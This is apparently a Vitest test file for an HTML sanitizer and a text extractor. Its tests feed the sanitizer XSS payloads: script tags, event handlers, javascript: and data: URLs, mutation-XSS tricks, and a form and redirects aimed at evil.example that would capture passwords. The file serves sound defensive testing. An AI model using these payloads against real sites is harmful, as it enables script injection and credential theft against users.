import { describe, expect, test } from 'vitest';
import { harmlessHtml, textOfHtml } from './html.ts';

const base = 'https://moss.example/on/page';

describe('the text of HTML', () => {
  test.each([
    ['AT&amp;T &#8220;buys&#8221; <b>moss</b>', 'AT&T “buys” moss'],
    ['<p>One</p><p>Two<br>Three</p>', 'One Two Three'],
    ['<style>a{}</style>Seen<script>alert(1)</script>', 'Seen'],
    ['a < b', 'a < b'],
    ['\u202Edesrever\u0000', 'desrever'],
    ['<svg><title>Hidden</title></svg>Seen', 'Seen'],
  ])('%j is %j', (html, text) => {
    expect(textOfHtml(html)).toBe(text);
  });
});

describe('harmless HTML', () => {
  test('keeps words, emphasis, lists, quotes, code and links, and makes links absolute', () => {
    expect(harmlessHtml('<h1>Moss</h1><ul><li><em>Soft</em></li></ul><a href="/more" title="x">more</a>', base)).toBe(
      '<h2>Moss</h2><ul><li><em>Soft</em></li></ul><a href="https://moss.example/more" rel="nofollow noopener">more</a>',
    );
  });

  test.each([
    '<script>alert(1)</script>',
    '<img src=x onerror=alert(1)>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt&colon;alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<p onclick="alert(1)" style="position:fixed" id="root" class="veil">x</p>',
    '<svg onload=alert(1)><a xlink:href="javascript:alert(1)">x</a></svg>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<form action="https://evil.example"><input name=password></form>',
    '<template><script>alert(1)</script></template>',
    '<xmp><script>alert(1)</script></xmp>',
    '<plaintext><script>alert(1)</script>',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<<script>script>alert(1)<</script>/script>',
  ])('of %s has nothing that acts', (html) => {
    expect(harmlessHtml(html, base)).not.toMatch(
      /<(?!\/?(?:p|a|b|em)\b)[a-z]|javascript:|data:|\son\w+\s*=|style=|\bid=|class=/i,
    );
  });

  test('that is nested too deep becomes plain text, quickly', () => {
    const deep = `${'<b>'.repeat(20_000)}moss &amp; <i>fern`;
    expect(harmlessHtml(deep, base)).toBe('moss &amp; fern');
  });
});
